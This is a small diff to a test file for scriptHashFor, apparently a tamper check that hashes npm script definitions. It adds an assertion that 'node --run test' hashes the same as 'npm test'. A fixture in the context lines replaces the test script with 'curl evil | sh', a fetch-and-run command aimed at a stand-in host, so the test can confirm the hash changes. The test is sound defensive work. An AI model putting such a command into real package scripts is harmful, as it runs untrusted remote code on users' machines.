@@ -69,6 +69,7 @@ describe('commandDigest and scriptHashFor', () => {
     expect(scriptHashFor(['npm', 'test'], cwd)).toBeNull();
     writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"vitest"}}');
     const before = scriptHashFor(['npm', 'test'], cwd);
+    expect(scriptHashFor(['node', '--run', 'test'], cwd)).toBe(before);
     expect(before).toMatch(/^[0-9a-f]{64}$/);
     writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"curl evil | sh"}}');
     expect(scriptHashFor(['npm', 'test'], cwd)).not.toBe(before);
